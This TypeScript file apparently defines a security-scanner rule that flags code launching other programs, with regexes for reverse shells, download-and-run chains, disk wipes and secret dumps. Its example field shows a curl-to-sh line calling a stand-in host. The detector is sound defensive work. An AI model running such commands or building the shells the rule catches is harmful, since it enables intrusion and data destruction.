import { constantPrefix } from '../facts/destinations.ts';
import { wordsOf } from '../facts/words-of.ts';
import { isWrittenPath } from '../facts/written-paths.ts';
import { defineRule, type RuleContext } from '../rule.ts';
import { bare, writtenKey, type Node } from '../syntax/node.ts';
import type { ResolvedCall } from '../values/resolve-call.ts';
import { arms } from '../values/value.ts';
import { isDecodedValue, isPlugin } from './helpers.ts';

const STARTS =
  /^(?:child_process\.(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|fork)|npm:(?:execa|cross-spawn|shelljs)(?:\.\w+)?|Deno\.(?:run|Command)|Bun\.spawn(?:Sync)?|process\.(?:dlopen|binding))$/;
const HOSTILE =
  /\b(?:curl|wget)\b[^|;&]*[|;&]+\s*(?:sudo\s+)?(?:ba|z)?sh\b|powershell[^\n]*(?:-e(?:nc|ncodedcommand)?\b|iex|downloadstring)|\/dev\/tcp\/|\bnc\s+-[a-z]*e|base64\s+(?:-d|--decode)\s*\||\brm\s+-rf\s+[~/]|certutil[^\n]*-urlcache|mkfifo|git\s+clone\b[^|;&]*[;&]+.*\b(?:node|sh|bash|python\d?|npm)\s|\b(?:printenv|env|set)\s*[|>]|\|\s*(?:nc|ncat|curl|wget)\b|\/dev\/udp\/|\bcurl\b[^|;&]*(?:-d|--data(?:-\w+)?|-F|-T)\s|socket\.socket\(.*(?:subprocess|dup2|pty|exec)|\bfsockopen\(|\bTCPSocket\b.*(?:exec|IO\.)|use\s+Socket\b.*exec|\bsocat\b.*exec|\bncat\b.*(?:-e|--exec)|\btelnet\b.*\|\s*(?:ba)?sh|bitsadmin|\bmshta\b|\bregsvr32\b[^\n]*http|\bInvoke-(?:WebRequest|Expression)\b/i;
/** Removes whatever is there: the folder it runs in, a home, a disk. */
const WIPES =
  /\brm\s+-[a-z]*r[a-z]*\s+(?:-\S+\s+)*["']?(?:\*|\.(?=\s|$|["'])|\.\/\*|\$HOME\b|\$\{HOME\}|~)|\b(?:rd|rmdir)\s+(?:\/[sq]\s+)+["']?(?:\.(?=\s|$|["'])|[A-Z]:\\|%(?:USERPROFILE|SYSTEMDRIVE|HOMEPATH)%)|\bdel\s+(?:\/[fsqa]\s+)+["']?(?:\*|[A-Z]:\\|%(?:USERPROFILE|SYSTEMDRIVE|HOMEPATH)%)|(?:\bfind\b|\$HOME|~\/).*\bshred\b|\bfind\s+["']?(?:\/|~|\$HOME)["']?\s.*-delete\b|\bmkfs(?:\.\w+)?\s|\bdd\s+if=\/dev\/(?:zero|u?random)\s+of=\/dev\//i;
/** Downloads a file, and makes that file a program. */
const DROPS =
  /\b(?:curl|wget)\b[^\n]*?(?:-\w*[oO]\s*|>\s*|--output[= ])(?<file>[\w./~$-]{3,})[^]*\bchmod\s+(?:\+x|[ugo]+\+x|[0-7]*[1357][0-7]*)\s+\k<file>/;
/** Runs a package that is fetched at that moment. */
const FETCHES =
  /\b(?:npx|bunx|pnpm\s+dlx|yarn\s+dlx|npm\s+exec)\s+(?:-y|--yes|-p)\b|\b(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)\s+(?:-\S+\s+)*(?:https?:|git[+@:]|[a-z@][\w./-]*@?)\S*.*(?:--no-save|--silent|--no-audit|>\s*\/dev\/null)|\bpip3?\s+install\s+\w/;
/** A program that was just written and outlives the one that starts it. */
function isLeftBehind(written: string, text: string): boolean {
  return (
    /detached\s*:\s*(?:true|!0)/.test(written) &&
    /unref\(\)|stdio\s*:\s*['"`]ignore/.test(text) &&
    /writeFile|createWriteStream/.test(text) &&
    text.length < 20_000
  );
}

const TALKS =
  /^(?:fetch|https?\.(?:get|request)|npm:(?:axios|got|node-fetch|undici|request|needle)(?:\.\w+)?)$/;

/** The program is a file that was written here, by code that also asks the network. */
function isDropped(call: ResolvedCall, { file }: RuleContext): boolean {
  const [program] = call.args;
  return (
    program !== undefined &&
    isWrittenPath(program, file) &&
    file.index.calls.some((node) => file.evaluator.call(node).names.some((name) => TALKS.test(name)))
  );
}

/** `repl.start({ input: socket, output: socket })`. */
function isRemotePrompt(call: ResolvedCall, { file }: RuleContext): boolean {
  const [options] = call.args;
  if (!options || !call.names.some((name) => /^repl\.(?:start|REPLServer)$/.test(name))) return false;
  return (
    options.type === 'ObjectExpression' &&
    options.properties.some(
      (property) =>
        property.type === 'Property' &&
        writtenKey(property.key, property.computed) === 'input' &&
        file.evaluator.resolveGlobal(property.value) !== 'process.stdin' &&
        /\b(?:net|tls|WebSocket|ws|http)\b/.test(file.text),
    )
  );
}

const DOWNLOADS = /^\s*(?:curl|wget)\b/;
const RUNS_INPUT = /^\s*(?:\/bin\/)?(?:node|deno|bun|(?:ba|z|da)?sh|python\d?|perl|ruby|powershell)\b/;

/** The command of the program whose end this is: `shell.stdin`, where `shell = spawn('sh')`. */
function commandOf(end: Node, file: RuleContext['file']): string {
  const member = bare(end);
  const name = member.type === 'MemberExpression' ? bare(member.object) : null;
  const made =
    name?.type === 'Identifier'
      ? file.evaluator.bindingOf(name)?.writes.find(({ value }) => value)?.value
      : name;
  const started = made ? bare(made) : null;
  const [command] = started?.type === 'CallExpression' ? started.arguments : [];
  return command ? constantPrefix(command, file, 0) : '';
}

/** `socket.pipe(shell.stdin)` and `shell.stdout.pipe(socket)`. */
function isShell(call: ResolvedCall, { file }: RuleContext): boolean {
  const [to] = call.args;
  if (call.node.type !== 'CallExpression' || !to || !call.receiver) return false;
  const callee = bare(call.node.callee);
  if (callee.type !== 'MemberExpression' || writtenKey(callee.property, callee.computed) !== 'pipe')
    return false;
  const isSocket = (node: Node): boolean =>
    arms(file.evaluator.evaluate(node)).some(
      (arm) => arm.kind === 'instance' && /^(?:net|tls)\./.test(arm.of),
    );
  const ends = (node: Node, name: RegExp): boolean => {
    const inner = bare(node);
    return inner.type === 'MemberExpression' && name.test(writtenKey(inner.property, inner.computed) ?? '');
  };
  if (ends(call.receiver, /^stdout$/) && ends(to, /^stdin$/))
    return DOWNLOADS.test(commandOf(call.receiver, file)) && RUNS_INPUT.test(commandOf(to, file));
  return (
    (isSocket(call.receiver) && ends(to, /^stdin$/)) ||
    (ends(call.receiver, /^std(?:out|err)$/) && isSocket(to))
  );
}

export const processStart = defineRule({
  id: 'process-start',
  severity: 'high',
  threat: 'environment-access',
  title: 'Another program is started',
  why: 'A program started from here escapes everything this review covers.',
  fix: 'Do the work in JavaScript, or ask the host for it.',
  example: {
    bad: 'require("child_process").exec("curl https://x.example/i | sh");',
    good: 'const sum = (a, b) => a + b;',
  },
  cwe: 78,
  visit: {
    call: (call, context) => {
      if (isShell(call, context)) {
        context.report(call.node, {
          severity: 'critical',
          message:
            'A connection is tied to the input or output of a program: whoever is at its end types the commands.',
        });
        return;
      }
      if (isRemotePrompt(call, context)) {
        context.report(call.node, {
          severity: 'critical',
          message: 'Whoever is at the other end of the connection types what this program runs.',
        });
        return;
      }
      const name = call.names.find((candidate) => STARTS.test(candidate));
      if (!name) return;
      const command = call.args.map((arg) => constantPrefix(arg, context.file, 0)).join(' ');
      const words = call.args.map((arg) => wordsOf(arg, context.file)).join(' ');
      const written = context.file.text.slice(
        call.node.start,
        Math.min(call.node.end, call.node.start + 600),
      );
      const decoded = isDecodedValue(call.args[0], context);
      const isOpen = !/^(?:[\w-]+)(?:\s|$)/.test(command) || /\.(?:exec|execSync)$/.test(name);
      const isRemote =
        (/^(?:\/bin\/)?(?:ba|z|da)?sh\b|^cmd(?:\.exe)?\b|^powershell/.test(command) &&
          command.trim().length < 40 &&
          /\bnew\s+[\w.]*(?:Socket|WebSocket)\b|\bnet\b.*connect|\.connect\(/s.test(context.file.text)) ||
        (name === 'process.binding' && /spawn_sync|process_wrap|tcp_wrap/.test(command));
      const isFetched =
        FETCHES.test(command.replace(/[,'"`[\]]+/g, ' ')) ||
        FETCHES.test(words) ||
        FETCHES.test(written.replace(/[,'"`[\]]+/g, ' '));
      const isHostile = [HOSTILE, WIPES, DROPS].some((one) =>
        [command, written, words].some((said) => one.test(said)),
      );
      if (isHostile || decoded)
        context.report(call.node, {
          severity: 'critical',
          message: decoded
            ? 'The command that is started is decoded at run time.'
            : 'This command downloads and runs, opens a shell to elsewhere, or destroys.',
        });
      else
        context.report(call.node, {
          severity:
            isRemote ||
            isFetched ||
            isLeftBehind(written, context.file.text) ||
            (name === 'process.dlopen' && /https?\b/.test(context.file.text))
              ? 'high'
              : isPlugin(context)
                ? isOpen
                  ? 'high'
                  : 'medium'
                : name === 'process.dlopen' || isDropped(call, context)
                  ? 'medium'
                  : 'low',
          message: `${name} starts another program.`,
        });
    },
  },
});
